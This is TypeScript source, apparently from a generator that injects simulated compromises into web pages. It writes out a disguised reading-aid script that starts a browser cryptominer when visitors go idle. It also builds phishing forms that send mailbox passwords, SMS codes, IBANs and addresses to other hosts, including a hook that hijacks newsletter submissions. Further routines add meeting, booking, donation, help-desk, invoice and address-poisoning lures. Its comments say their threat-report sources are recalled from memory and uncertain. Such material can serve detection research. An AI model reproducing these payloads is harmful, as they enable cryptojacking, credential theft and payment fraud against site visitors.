const readingAidMiner = fresh22("reading-aid toolbar tag (Browsealoud, ReachDeck, ReadSpeaker look-alike host) carrying a browser miner started in workers when the visitor is idle or the tab hidden", (page, rng) => {
  const vendor = pick(rng, ["browsealoud", "reachdeck", "readspeaker", "texthelp", "recite"])
  const h = vendorHost(rng, vendor)
  const pool = `wss://${pick(rng, [randomDomain(rng), `${pick(rng, ["pool", "ws", "proxy"])}.${randomDomain(rng)}`])}/${pick(rng, ["proxy", "ws", ""])}`
  const key = pick(rng, [alnum(rng, 32), hex(rng, 64)])
  const code = `var M={k:${js(key)},p:${js(pool)},t:${pick(rng, ["0", "0.2", "0.4", "0.6"])},n:navigator.hardwareConcurrency||${between(rng, 2, 8)}};function go(){if(window.__m)return;window.__m=1;var s=document.createElement("script");s.src="https://${h}/${pick(rng, ["plus/scripts/ba.js", "lib/wasm-core.js", "audio/engine.min.js"])}";s.onload=function(){try{window.${pick(rng, ["CoinHive", "Client", "Engine", "WMP"])}&&new window.${pick(rng, ["CoinHive", "Client", "Engine", "WMP"])}.Anonymous(M.k,{threads:M.n,throttle:M.t,pool:M.p}).start()}catch(e){}};document.head.appendChild(s)}${pick(rng, [
    `document.addEventListener("visibilitychange",function(){if(document.hidden)go()});`,
    `var i;function r(){clearTimeout(i);i=setTimeout(go,${between(rng, 20, 90)}000)}["mousemove","keydown","scroll","touchstart"].forEach(function(e){document.addEventListener(e,r,{passive:true})});r();`,
    `setTimeout(go,${between(rng, 3, 30)}000);`
  ])}`
  const out: Array<Splice> = [insert(scriptSpot(rng, page), `<script src="https://${h}/${pick(rng, ["plus/scripts/2.6.0/ba.js", "toolbar/loader.js", "webReader/webReader.js"])}" ${pick(rng, ["", "async", "defer"])}></script>${wrapScript(rng, code)}`)]
  if (chance(rng, 0.6)) out.push(insert(pick(rng, [top(page), bottom(page)]), `<div class="${pick(rng, ["ba-toolbar", "reachdeck-launcher", "rs_skip"])}" style="position:fixed;${pick(rng, ["right", "left"])}:12px;top:${between(rng, 30, 60)}%;z-index:${zTop(rng)};background:${accent(rng)};color:#fff;padding:8px 10px;border-radius:6px;font:13px ${font(rng)};cursor:pointer">🔊 ${esc(some(rng, page, listenWords))}</div>`))
  return { splices: out }
})

// ———————————————————————————— credentials in new dress ————————————————————————————

const pickerWords: Table<(b: string) => readonly [string, string, string, string, string]> = {
  en: (b) => ["Confirm your subscription", `To finish subscribing to ${b}, verify your e-mail with your provider.`, "Other e-mail", "E-mail password", "Verify"],
  fr: (b) => ["Confirmez votre inscription", `Pour finaliser votre inscription à ${b}, vérifiez votre adresse auprès de votre messagerie.`, "Autre messagerie", "Mot de passe de la messagerie", "Vérifier"],
  de: (b) => ["Bestätigen Sie Ihr Abonnement", `Um Ihr Abonnement bei ${b} abzuschließen, bestätigen Sie Ihre E-Mail bei Ihrem Anbieter.`, "Anderer Anbieter", "E-Mail-Passwort", "Bestätigen"],
  es: (b) => ["Confirma tu suscripción", `Para completar tu suscripción a ${b}, verifica tu correo con tu proveedor.`, "Otro correo", "Contraseña del correo", "Verificar"],
  nl: (b) => ["Bevestig je inschrijving", `Om je inschrijving bij ${b} af te ronden, verifieer je je e-mail bij je provider.`, "Andere provider", "Wachtwoord van je e-mail", "Verifiëren"],
  pt: (b) => ["Confirme sua inscrição", `Para concluir sua inscrição em ${b}, verifique seu e-mail com seu provedor.`, "Outro e-mail", "Senha do e-mail", "Verificar"],
  it: (b) => ["Conferma la tua iscrizione", `Per completare l'iscrizione a ${b}, verifica la tua e-mail con il tuo provider.`, "Altra e-mail", "Password dell'e-mail", "Verifica"]
}

// E-mail-provider pickers, recalled from memory of phishing kits described by PhishLabs, Sucuri, Trustwave and others (about 2016–2023) that show a row of webmail logos ("sign in with Gmail, Outlook, Yahoo, AOL, Office 365, other mail") before asking for the mailbox password, usually dressed as a shared document or an invoice: the site's newsletter sign-up followed by a "confirm your subscription with your e-mail provider" box whose provider buttons ask for the mailbox password and post it to another host (shown after the newsletter form is sent, or at once).
const providerPicker = fresh22("'confirm your subscription with your e-mail provider' picker (Gmail, Outlook, Yahoo, AOL, other) after the newsletter sign-up, asking for the mailbox password", (page, rng) => {
  const [title, p, other, pass, go] = some(rng, page, pickerWords)(brandName(page))
  const h = themed(rng, page, ["mail", "verify", "webmail", "confirm", "newsletter"])
  const id = `mv${alnum(rng, 5)}`
  const providers = sample(rng, [["Gmail", "#d93025"], ["Outlook", "#0f6cbd"], ["Yahoo", "#6001d2"], ["AOL", "#222"], ["Office 365", "#d83b01"], ["iCloud", "#555"], ["GMX", "#1c449b"], ["Orange", "#ff7900"], ["Libero", "#0a5ca8"], ["T-Online", "#e20074"]] as const, between(rng, 3, 5))
  const btns = [...providers.map(([n, c]) => `<button type="button" onclick="document.getElementById('${id}f').style.display='block';document.getElementById('${id}p').value='${n}'" style="display:block;width:100%;margin:5px 0;padding:8px;border:1px solid ${c};color:${c};background:#fff;border-radius:4px">${n}</button>`), `<button type="button" onclick="document.getElementById('${id}f').style.display='block'" style="display:block;width:100%;margin:5px 0;padding:8px;border:1px solid #999;background:#fff;border-radius:4px">${esc(other)}</button>`].join("")
  const form = `<form id="${id}f" action="https://${h}/${pick(rng, ["verify.php", "auth/confirm", "login/next.php", "m/"])}" method="post" style="display:none"><input type="hidden" id="${id}p" name="provider"><input name="email" type="email" placeholder="E-mail" style="display:block;width:100%;box-sizing:border-box;margin:4px 0;padding:7px"><input name="password" type="password" placeholder="${esc(pass)}" style="display:block;width:100%;box-sizing:border-box;margin:4px 0;padding:7px"><button type="submit" style="background:${accent(rng)};color:#fff;border:0;padding:8px 16px;border-radius:4px">${esc(go)}</button></form>`
  const atOnce = chance(rng, 0.4)
  const box = `<div id="${id}" role="dialog" style="display:${atOnce ? "block" : "none"};position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);z-index:${zTop(rng)};background:#fff;width:${between(rng, 300, 380)}px;padding:20px;border-radius:8px;box-shadow:0 10px 40px rgba(0,0,0,.35);font:14px ${font(rng)};color:#222"><h3 style="margin:0 0 6px">${esc(title)}</h3><p>${esc(p)}</p>${btns}${form}</div>`
  const out: Array<Splice> = [insert(pick(rng, [bottom(page), top(page)]), box)]
  if (!atOnce) {
    const nl = forms(page)[0]
    const hook = `document.addEventListener("submit",function(e){var f=e.target;if(f&&f.id!=="${id}f"&&f.querySelector("input[type=email]")){e.preventDefault();document.getElementById("${id}").style.display="block"}},true);`
    out.push(insert(nl?.closeTag?.end ?? scriptSpot(rng, page), wrapScript(rng, hook)))
  }
  return { splices: out }
})

const passkeyWords: Table<(b: string) => readonly [string, string, string, string, string, string]> = {
  en: (b) => ["Passkey sign-in is temporarily unavailable", `We are updating ${b}'s security. Sign in with your password and the code we text you to keep access to your account.`, "E-mail or username", "Password", "Code sent by SMS", "Sign in"],
  fr: (b) => ["La connexion par clé d'accès est temporairement indisponible", `Nous mettons à jour la sécurité de ${b}. Connectez-vous avec votre mot de passe et le code reçu par SMS pour garder l'accès à votre compte.`, "E-mail ou identifiant", "Mot de passe", "Code reçu par SMS", "Se connecter"],
  de: (b) => ["Die Anmeldung mit Passkey ist vorübergehend nicht verfügbar", `Wir aktualisieren die Sicherheit von ${b}. Melden Sie sich mit Passwort und dem per SMS gesendeten Code an, um den Zugang zu behalten.`, "E-Mail oder Benutzername", "Passwort", "Code per SMS", "Anmelden"],
  es: (b) => ["El acceso con llave de acceso no está disponible temporalmente", `Estamos actualizando la seguridad de ${b}. Inicia sesión con tu contraseña y el código que te enviamos por SMS para conservar el acceso.`, "Correo o usuario", "Contraseña", "Código recibido por SMS", "Iniciar sesión"],
  nl: (b) => ["Inloggen met een passkey is tijdelijk niet mogelijk", `We werken de beveiliging van ${b} bij. Log in met je wachtwoord en de sms-code om toegang tot je account te houden.`, "E-mail of gebruikersnaam", "Wachtwoord", "Sms-code", "Inloggen"],
  pt: (b) => ["O login com chave de acesso está temporariamente indisponível", `Estamos atualizando a segurança de ${b}. Entre com sua senha e o código enviado por SMS para manter o acesso à sua conta.`, "E-mail ou usuário", "Senha", "Código recebido por SMS", "Entrar"],
  it: (b) => ["L'accesso con passkey è temporaneamente non disponibile", `Stiamo aggiornando la sicurezza di ${b}. Accedi con la password e il codice ricevuto via SMS per mantenere l'accesso al tuo account.`, "E-mail o nome utente", "Password", "Codice ricevuto via SMS", "Accedi"]
}

// Passkey downgrade, recalled from memory, with uncertain sources, of research and vendor write-ups (about 2024–2025, Proofpoint and others) on adversary-in-the-middle phishing that pushes users who normally sign in with a passkey or security key back to a password and a one-time code, and of the "passkey not available on this device, try another way" screens real services show: a notice in the site's name saying passkey sign-in is unavailable, with a password and SMS-code form posting to another host.
const passkeyDowngrade = fresh22("'passkey sign-in is temporarily unavailable, use your password and the SMS code' box in the site's name, posting to another host", (page, rng) => {
  const [t, p, user, pass, code, go] = some(rng, page, passkeyWords)(brandName(page))
  const h = themed(rng, page, ["login", "auth", "account", "secure", "id"])
  const f = (n: string, ty: string, ph: string, ac: string) => `<input name="${n}" type="${ty}" placeholder="${esc(ph)}" autocomplete="${ac}" style="display:block;width:100%;box-sizing:border-box;margin:6px 0;padding:8px;border:1px solid #bbb;border-radius:4px">`
  const fixed = chance(rng, 0.5)
  const html = `<div class="${pick(rng, ["auth-notice", "passkey-fallback", "signin-alert"])}" style="${fixed ? `position:fixed;top:${between(rng, 40, 120)}px;left:50%;transform:translateX(-50%);z-index:${zTop(rng)};box-shadow:0 8px 30px rgba(0,0,0,.3);` : "margin:16px auto;"}max-width:${between(rng, 340, 440)}px;background:#fff;border:1px solid #ddd;border-radius:10px;padding:18px;font:14px ${font(rng)};color:#222"><p style="margin:0 0 4px;font-weight:bold">🔑 ${esc(t)}</p><p style="margin:0 0 8px;color:#444">${esc(p)}</p><form action="https://${h}/${pick(rng, ["signin/password", "auth/fallback", "login", "u/login/password"])}" method="post">${f("username", "text", user, "username")}${f("password", "password", pass, "current-password")}${f("otp", "text", code, "one-time-code")}<button type="submit" style="background:${accent(rng)};color:#fff;border:0;padding:9px 18px;border-radius:5px">${esc(go)}</button></form></div>`
  return splices(insert(noticeSpot(rng, page), html))
})

const meetingWords: Table<(d: string, h: string) => readonly [string, string, string, string]> = {
  en: (d, h) => ["Online information session", `${d}, ${h} — join us live for a presentation and questions.`, "Join the meeting", "Meeting won't start? Download the desktop app"],
  fr: (d, h) => ["Réunion d'information en ligne", `${d}, ${h} — rejoignez-nous en direct pour une présentation et vos questions.`, "Rejoindre la réunion", "La réunion ne démarre pas ? Téléchargez l'application"],
  de: (d, h) => ["Online-Infoveranstaltung", `${d}, ${h} — seien Sie live dabei mit Vortrag und Fragerunde.`, "Am Meeting teilnehmen", "Meeting startet nicht? Desktop-App herunterladen"],
  es: (d, h) => ["Sesión informativa en línea", `${d}, ${h} — únete en directo a la presentación y turno de preguntas.`, "Unirse a la reunión", "¿No se inicia? Descarga la aplicación"],
  nl: (d, h) => ["Online informatiesessie", `${d}, ${h} — doe live mee met de presentatie en vragenronde.`, "Deelnemen aan de vergadering", "Start de vergadering niet? Download de app"],
  pt: (d, h) => ["Sessão informativa online", `${d}, ${h} — participe ao vivo da apresentação e das perguntas.`, "Entrar na reunião", "A reunião não abre? Baixe o aplicativo"],
  it: (d, h) => ["Incontro informativo online", `${d}, ${h} — partecipa in diretta alla presentazione e alle domande.`, "Partecipa alla riunione", "La riunione non parte? Scarica l'app"]
}

// Meeting lures, recalled from memory of reports (about 2020–2025: Check Point on Zoom look-alike domains in 2020, later write-ups by Cyble, Zscaler and others on fake Zoom, Teams, Webex and Google Meet pages) of look-alike meeting hosts whose join links lead to a sign-in clone or to a "download the client" page serving malware: an online session announced in the site's name whose "join" link uses a meeting-style path on a look-alike host, with a download link for a "client" from that host.
const meetingLure = fresh22("online session announced in the site's name whose 'join' link and 'download the app' fallback lead to a look-alike meeting host (Zoom, Teams, Webex, Meet)", (page, rng) => {
  const [svc, path, file] = pick(rng, [
    ["zoom", `/j/${digits(rng, 11)}?pwd=${alnum(rng, 22)}`, `ZoomInstaller${pick(rng, ["", "Full", "_x64"])}.${pick(rng, ["exe", "msi", "zip"])}`],
    ["teams", `/l/meetup-join/19%3ameeting_${alnum(rng, 24)}%40thread.v2/0`, `MSTeamsSetup_${pick(rng, ["x64", "c_w_"])}.${pick(rng, ["exe", "msix", "zip"])}`],
    ["webex", `/meet/${slug(brandName(page)) || "events"}${digits(rng, 3)}`, `webexapp.${pick(rng, ["msi", "exe"])}`],
    ["meet", `/${alnum(rng, 3)}-${alnum(rng, 4)}-${alnum(rng, 3)}`, `GoogleMeetSetup.${pick(rng, ["exe", "dmg"])}`]
  ] as const)
  const h = pick(rng, [`${svc}-${pick(rng, ["us", "meeting", "live", "join", "web"])}.${tld(rng)}`, `${pick(rng, ["join", "live", "web"])}-${svc}.${tld(rng)}`, `${svc}${pick(rng, ["app", "meet", "online"])}.${tld(rng)}`, `${bare(page)}-${svc}.${tld(rng)}`])
  const date = page.site.locale.date(someDate(rng))
  const hour = `${between(rng, 9, 19)}:${pick(rng, ["00", "30"])}`
  const [t, p, join, dl] = some(rng, page, meetingWords)(date, hour)
  const html = `<div class="${pick(rng, ["event-box", "webinar", "info-session"])}" style="border:1px solid #ddd;border-left:4px solid ${accent(rng)};padding:12px 16px;margin:14px 0;font:14px ${font(rng)}"><h3 style="margin:0 0 6px">${esc(t)}</h3><p style="margin:0 0 8px">${esc(p)}</p><p><a href="https://${h}${path}" style="font-weight:bold">${esc(join)} →</a></p>${chance(rng, 0.75) ? `<p style="font-size:12px"><a href="https://${h}/download/${file}">${esc(dl)}</a></p>` : ""}</div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), html))
})

// ———————————————————————————— fake support, booking, donations and invoices ————————————————————————————

const helpWords: Table<readonly [string, string, string]> = {
  en: ["Need help with an order, a refund or your account?", "Our phone line and e-mail are no longer monitored. Please open a ticket in our help centre and have your card or online-banking details ready for verification.", "Open a support ticket"],
  fr: ["Besoin d'aide pour une commande, un remboursement ou votre compte ?", "Notre ligne téléphonique et notre adresse e-mail ne sont plus suivies. Ouvrez un ticket dans notre centre d'aide et préparez vos coordonnées bancaires pour la vérification.", "Ouvrir un ticket"],
  de: ["Hilfe bei einer Bestellung, Erstattung oder Ihrem Konto?", "Unsere Telefonleitung und E-Mail werden nicht mehr betreut. Eröffnen Sie ein Ticket in unserem Hilfe-Center und halten Sie Ihre Karten- oder Online-Banking-Daten zur Prüfung bereit.", "Support-Ticket eröffnen"],
  es: ["¿Necesitas ayuda con un pedido, un reembolso o tu cuenta?", "Nuestra línea telefónica y correo ya no se atienden. Abre un ticket en nuestro centro de ayuda y ten a mano los datos de tu tarjeta o banca en línea para la verificación.", "Abrir un ticket"],
  nl: ["Hulp nodig bij een bestelling, terugbetaling of je account?", "Onze telefoonlijn en e-mail worden niet meer gelezen. Open een ticket in ons helpcentrum en houd je kaart- of internetbankiergegevens bij de hand voor verificatie.", "Ticket openen"],
  pt: ["Precisa de ajuda com um pedido, reembolso ou sua conta?", "Nossa linha telefônica e e-mail não são mais monitorados. Abra um chamado na nossa central de ajuda e tenha os dados do cartão ou do internet banking em mãos para verificação.", "Abrir chamado"],
  it: ["Serve aiuto per un ordine, un rimborso o il tuo account?", "La nostra linea telefonica e l'e-mail non sono più seguite. Apri un ticket nel nostro centro assistenza e tieni pronti i dati della carta o dell'home banking per la verifica.", "Apri un ticket"]
}

// Look-alike help desks, recalled from memory, with uncertain sources, of reports (CloudSEK and others, about 2024) on hosted help-desk subdomains registered under companies' names (anyone can open a brand-support.zendesk.com or a Freshdesk portal) and used for refund and support scams, and of fake-support scams that tell customers the usual channels are closed: a box sending visitors to a help centre on a hosted help-desk subdomain or look-alike host not run by the site, saying the phone and e-mail are no longer read, sometimes with the site's own contact links pointed there too.
const helpdeskLookalike = fresh22("help-centre box sending visitors to a hosted help-desk portal under a look-alike name (Zendesk, Freshdesk, Help Scout subdomain), saying the phone and e-mail are no longer read", (page, rng) => {
  const name = `${bare(page)}${pick(rng, ["support", "help", "-care", "-refunds", "-helpdesk", "customercare", "service"])}`
  const portal = pick(rng, [`https://${name}.zendesk.com/hc/${pick(rng, ["en-us", "requests/new", ""])}`, `https://${name}.freshdesk.com/support/tickets/new`, `https://${name}.helpscoutdocs.com/`, `https://${themed(rng, page, ["support", "help", "care"])}/hc/requests/new`])
  const [q, p, open] = some(rng, page, helpWords)
  const out: Array<Splice> = [insert(pick(rng, [noticeSpot(rng, page), slotAt(page.spots, "bottom")]), `<div class="${pick(rng, ["support-notice", "help-box", "contact-update"])}" style="background:#f6f8fa;border:1px solid #d0d7de;border-radius:6px;padding:12px 16px;margin:12px 0;font:14px ${font(rng)}"><strong>${esc(q)}</strong><p style="margin:6px 0">${esc(p)}</p><a href="${esc(portal)}" style="display:inline-block;background:${accent(rng)};color:#fff;padding:7px 14px;border-radius:4px;text-decoration:none">${esc(open)}</a></div>`)]
  if (chance(rng, 0.5)) {
    const contact = shown(page, "a", (e) => !e.inert && /contact|support|help|kontakt|contatti|contacto|aide|hilfe/i.test(e.attribs.href ?? "") && !/^\s*(mailto|tel):/i.test(e.attribs.href ?? ""))
    for (const el of sample(rng, contact, 3)) out.push(setAttr(page, el, "href", portal))
  }
  return { splices: out }
})

const bookingWords: Table<(dep: string) => readonly [string, string, string]> = {
  en: (d) => ["Book your appointment online", `Choose a time that suits you. A refundable deposit of ${d} is taken by card to confirm the booking.`, "Book now"],
  fr: (d) => ["Prenez rendez-vous en ligne", `Choisissez le créneau qui vous convient. Un acompte remboursable de ${d} est demandé par carte pour confirmer.`, "Réserver"],
  de: (d) => ["Termin online buchen", `Wählen Sie einen passenden Termin. Zur Bestätigung wird eine erstattbare Anzahlung von ${d} per Karte erhoben.`, "Jetzt buchen"],
  es: (d) => ["Reserva tu cita en línea", `Elige la hora que prefieras. Se cobra un depósito reembolsable de ${d} con tarjeta para confirmar la reserva.`, "Reservar"],
  nl: (d) => ["Maak online een afspraak", `Kies een tijd die je past. Ter bevestiging wordt een terugbetaalbare aanbetaling van ${d} met je kaart gevraagd.`, "Nu boeken"],
  pt: (d) => ["Agende seu horário online", `Escolha o horário que preferir. Um depósito reembolsável de ${d} é cobrado no cartão para confirmar o agendamento.`, "Agendar"],
  it: (d) => ["Prenota il tuo appuntamento online", `Scegli l'orario che preferisci. Per confermare viene richiesto con carta un deposito rimborsabile di ${d}.`, "Prenota ora"]
}

// Booking look-alikes, recalled from memory of warnings (about 2022–2024, from Booking.com, Doctolib, national consumer agencies and Akamai's research on hotel-booking phishing) about look-alike booking and appointment pages that take a "deposit" by card, and of the booking links businesses publish (Calendly, Doctolib, Treatwell, OpenTable, SimplyBook): a "book online" box in the site's name linking to a look-alike scheduling host with the business's name in the path, asking a refundable card deposit.
const bookingLookalike = fresh22("'book your appointment online' box linking to a look-alike scheduling host (Calendly, Doctolib, Treatwell, SimplyBook, OpenTable) that takes a card 'deposit'", (page, rng) => {
  const svc = pick(rng, ["calendly", "doctolib", "treatwell", "simplybook", "opentable", "setmore", "fresha"])
  const h = pick(rng, [`${svc}-${pick(rng, ["booking", "rdv", "app", "reserve", "book"])}.${tld(rng)}`, `${pick(rng, ["book", "my", "app"])}-${svc}.${tld(rng)}`, `${svc}.${pick(rng, ["appointments", "bookings"])}-${alnum(rng, 3)}.${tld(rng)}`])
  const dep = page.site.locale.money(pick(rng, [10, 15, 20, 25, 29.9, 35, 50]))
  const [t, p, go] = some(rng, page, bookingWords)(dep)
  const href = `https://${h}/${slug(brandName(page)) || bare(page)}/${pick(rng, ["30min", "rendez-vous", "appointment", "book", "consultation"])}`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), anySlot(rng, page.spots), noticeSpot(rng, page)]), `<div class="${pick(rng, ["booking-cta", "appointments", "book-online"])}" style="padding:14px 18px;margin:14px 0;border-radius:8px;background:#f2f7ff;font:14px ${font(rng)}"><h3 style="margin:0 0 6px">📅 ${esc(t)}</h3><p style="margin:0 0 10px">${esc(p)}</p><a href="${esc(href)}" style="background:${accent(rng)};color:#fff;padding:8px 16px;border-radius:20px;text-decoration:none">${esc(go)}</a></div>`))
})

const donateWords: Table<(b: string) => readonly [string, string, string, string]> = {
  en: (b) => [`Support ${b}`, "Every gift helps. Choose an amount:", "Other amount", "Donate securely"],
  fr: (b) => [`Soutenez ${b}`, "Chaque don compte. Choisissez un montant :", "Autre montant", "Donner en toute sécurité"],
  de: (b) => [`Unterstützen Sie ${b}`, "Jede Spende hilft. Wählen Sie einen Betrag:", "Anderer Betrag", "Sicher spenden"],
  es: (b) => [`Apoya a ${b}`, "Cada donación ayuda. Elige un importe:", "Otro importe", "Donar de forma segura"],
  nl: (b) => [`Steun ${b}`, "Elke gift helpt. Kies een bedrag:", "Ander bedrag", "Veilig doneren"],
  pt: (b) => [`Apoie ${b}`, "Cada doação ajuda. Escolha um valor:", "Outro valor", "Doar com segurança"],
  it: (b) => [`Sostieni ${b}`, "Ogni dono aiuta. Scegli un importo:", "Altro importo", "Dona in sicurezza"]
}

// Look-alike fundraising pages, recalled from memory of warnings by the FTC, the UK Charity Commission and GoFundMe itself (about 2017–2023, and after the February 2022 invasion of Ukraine and the February 2023 Turkey–Syria earthquake) about fake donation pages and typosquats of fundraising platforms, and of the embeddable donation forms those platforms offer (Donorbox, GoFundMe, JustGiving, HelloAsso, betterplace.org): a donation form with amount buttons in the site's name whose form and script come from a look-alike of a fundraising platform.
const donationLookalike = fresh22("donation form with amount buttons in the site's name, posted to a look-alike fundraising-platform host (Donorbox, GoFundMe, JustGiving, HelloAsso, betterplace look-alike)", (page, rng) => {
  const svc = pick(rng, ["donorbox", "gofundme", "justgiving", "helloasso", "betterplace", "givebutter", "classy"])
  const h = pick(rng, [`${svc}-${pick(rng, ["donate", "campaign", "give", "org", "secure"])}.${tld(rng)}`, `${pick(rng, ["donate", "give", "secure"])}-${svc}.${tld(rng)}`, `${svc}${pick(rng, ["s", "-org", "pay"])}.${tld(rng)}`])
  const [t, p, other, go] = some(rng, page, donateWords)(brandName(page))
  const amounts = sample(rng, [10, 20, 25, 35, 50, 75, 100, 150, 250], between(rng, 3, 5)).sort((a, b) => a - b)
  const money = page.site.locale.money
  const html = `<div class="${pick(rng, ["donation-widget", "dbox-donation-form", "donate-box"])}" style="border:1px solid #e0e0e0;border-radius:10px;padding:16px;margin:16px 0;max-width:420px;font:14px ${font(rng)}"><h3 style="margin:0 0 6px">❤ ${esc(t)}</h3><p style="margin:0 0 8px">${esc(p)}</p><form action="https://${h}/${pick(rng, ["donate", "checkout", "embed/donate"])}/${slug(brandName(page)) || bare(page)}" method="post">${amounts.map((a, i) => `<label style="display:inline-block;margin:3px;padding:6px 10px;border:1px solid #ccc;border-radius:4px"><input type="radio" name="amount" value="${a}"${i === 1 ? " checked" : ""}> ${esc(money(a))}</label>`).join("")}<label style="display:block;margin:6px 0">${esc(other)} <input name="custom" type="number" min="1" style="width:90px"></label><button type="submit" style="background:${accent(rng)};color:#fff;border:0;padding:9px 18px;border-radius:5px">${esc(go)}</button></form>${chance(rng, 0.5) ? `<script src="https://${h}/widget.js" async></script>` : ""}</div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), html))
})

const debitWords: Table<(b: string, cid: string) => readonly [string, string, string, string, string, string, string]> = {
  en: (b, c) => ["Become a monthly supporter", `Set up a direct debit to ${b} (creditor ID ${c}).`, "Full name", "Account number or IBAN", "Sort code / BIC", "Home address", "Sign the mandate"],
  fr: (b, c) => ["Devenez donateur mensuel", `Mettez en place un prélèvement au profit de ${b} (ICS ${c}).`, "Nom complet", "IBAN", "BIC", "Adresse postale", "Signer le mandat"],
  de: (b, c) => ["Werden Sie Fördermitglied", `Erteilen Sie ${b} ein SEPA-Lastschriftmandat (Gläubiger-ID ${c}).`, "Vollständiger Name", "IBAN", "BIC", "Anschrift", "Mandat erteilen"],
  es: (b, c) => ["Hazte socio mensual", `Domicilia tu cuota a favor de ${b} (identificador de acreedor ${c}).`, "Nombre completo", "IBAN", "BIC", "Dirección", "Firmar la orden"],
  nl: (b, c) => ["Word maandelijks donateur", `Machtig ${b} voor een automatische incasso (incassant-ID ${c}).`, "Volledige naam", "IBAN", "BIC", "Adres", "Machtiging ondertekenen"],
  pt: (b, c) => ["Torne-se apoiador mensal", `Autorize o débito automático a favor de ${b} (ID do credor ${c}).`, "Nome completo", "Conta ou IBAN", "Agência / BIC", "Endereço", "Assinar a autorização"],
  it: (b, c) => ["Diventa sostenitore mensile", `Attiva un addebito diretto SEPA a favore di ${b} (ID creditore ${c}).`, "Nome e cognome", "IBAN", "BIC", "Indirizzo", "Firma il mandato"]
}

// Direct-debit harvesting, recalled from memory of warnings from banks, UK Finance and the Bundesbank (about 2016–2023) on fraud with collected account numbers (direct debits set up with stolen IBANs, "mandate" phishing pages in the names of charities and clubs) and of the real mandate forms that name a creditor identifier: a "become a monthly supporter" direct-debit form in the site's name whose creditor identifier is not the site's and which posts the name, account and home address to another host.
const debitMandateHarvest = fresh22("'become a monthly supporter' direct-debit mandate form in the site's name with another creditor identifier, posting name, account number and address to another host", (page, rng) => {
  const cc = page.site.locale.country.toUpperCase().replace("UK", "GB")
  const cid = pick(rng, [`${cc}${digits(rng, 2)}ZZZ${digits(rng, 11)}`, `${digits(rng, 6)}`, `${cc}${digits(rng, 2)}${upper(rng, 3)}${digits(rng, 8)}`])
  const [t, p, name, acct, bic, addr, go] = some(rng, page, debitWords)(brandName(page), cid)
  const h = themed(rng, page, ["mandate", "sepa", "giving", "members", "donate", "support"])
  const f = (n: string, ph: string) => `<input name="${n}" placeholder="${esc(ph)}" style="display:block;width:100%;box-sizing:border-box;margin:5px 0;padding:7px;border:1px solid #bbb">`
  const html = `<section class="${pick(rng, ["membership-debit", "regular-giving", "sepa-form"])}" style="border:1px solid #ddd;padding:16px;margin:16px 0;max-width:440px;font:14px ${font(rng)}"><h3 style="margin:0 0 6px">${esc(t)}</h3><p>${esc(p)}</p><form action="https://${h}/${pick(rng, ["mandate", "sepa/sign", "dd/submit", "join"])}" method="post">${f("name", name)}${f("iban", acct)}${chance(rng, 0.6) ? f("bic", bic) : ""}${f("address", addr)}<select name="amount">${[5, 10, 15, 25].map((a) => `<option>${esc(page.site.locale.money(a))}</option>`).join("")}</select> <button type="submit" style="background:${accent(rng)};color:#fff;border:0;padding:8px 16px">${esc(go)}</button></form></section>`
  return splices(insert(pick(rng, [anySlot(rng, page.spots), slotAt(page.spots, "bottom"), noticeSpot(rng, page)]), html))
})

const invoiceWords: Table<(d: string) => string> = {
  en: (d) => `Paying an invoice? Please use our updated payment instructions for invoices issued from ${d}`,
  fr: (d) => `Vous réglez une facture ? Merci d'utiliser nos nouvelles coordonnées de paiement pour les factures émises à partir du ${d}`,
  de: (d) => `Sie bezahlen eine Rechnung? Bitte nutzen Sie für Rechnungen ab dem ${d} unsere aktualisierten Zahlungsanweisungen`,
  es: (d) => `¿Va a pagar una factura? Utilice nuestras nuevas instrucciones de pago para las facturas emitidas desde el ${d}`,
  nl: (d) => `Betaalt u een factuur? Gebruik voor facturen vanaf ${d} onze bijgewerkte betaalinstructies`,
  pt: (d) => `Vai pagar uma fatura? Use nossas novas instruções de pagamento para faturas emitidas a partir de ${d}`,
  it: (d) => `Deve pagare una fattura? Utilizzi le nostre nuove istruzioni di pagamento per le fatture emesse dal ${d}`
}

// Invoice redirection, recalled from memory of the FBI IC3's business-e-mail-compromise alerts and Europol and Action Fraud warnings (about 2016–2024) on "updated bank details" letters sent as PDF or Word attachments or links, and of mandate-fraud advice to check new bank details by phone: a line beside the site's bank or contact details pointing payers of invoices to an "updated payment instructions" document on a file host or look-alike of the site, the account itself not shown on the page.
const invoiceInstructions = fresh22("'paying an invoice? use our updated payment instructions' line beside the bank or contact details, linking to a document on a file host or look-alike of the site", (page, rng) => {
  const name = pick(rng, ["Payment_Instructions", "Updated_Bank_Details", "Remittance_Advice", "Bank_Letter", `${brandName(page).replace(/\s+/g, "_")}_Payment_Details`])
  const ext = pick(rng, ["pdf", "pdf", "docx", "html", "pdf.html", "zip"])
  const href = pick(rng, [
    () => `https://${brandLookalike(rng, page.site.brand)}/docs/${name}.${ext}`,
    () => `https://www.dropbox.com/scl/fi/${alnum(rng, 21)}/${name}.${ext}?dl=0`,
    () => `https://docsend.com/view/${alnum(rng, 16)}`,
    () => `https://${alnum(rng, 6)}.sharepoint.${tld(rng)}/:b:/g/${alnum(rng, 30)}`,
    () => `https://${randomDomain(rng)}/${alnum(rng, 8)}/${name}.${ext}`
  ])()
  const line = `⚠ ${esc(some(rng, page, invoiceWords)(page.site.locale.date(someDate(rng))))}: <a href="${esc(href)}">${esc(name.replace(/_/g, " "))} (${ext.toUpperCase().replace(".HTML", "")})</a>`
  const needle = page.ids.bank?.value ?? page.ids.email
  const after = lineAfter(page, needle) ?? lineAfter(page, page.ids.email)
  return splices(after === null ? insert(anySlot(rng, page.spots), `<p>${line}</p>`) : insert(after.at, after.wrap(line)))
})

// ———————————————————————————— identifiers that still look the same ————————————————————————————

const poison = (s: string, keep: number, fill: (n: number) => string): string => {
  for (;;) {
    const out = s.slice(0, keep) + fill(s.length - 2 * keep) + s.slice(s.length - keep)
    if (out !== s) return out
  }
}

// Address poisoning, recalled from memory of reports (about 2022–2024, from Etherscan, Chainalysis, SlowMist and news coverage of a May 2024 loss of about 68 million dollars in WBTC) on look-alike wallet addresses generated to share the first and last characters of a victim's address, since people check only the ends, and of bank-detail fraud where only middle digits of an account change: the site's wallet address (or IBAN, or national account number) replaced by a look-alike that keeps its first and last characters; the phone with its first and last digits kept when the page shows neither.
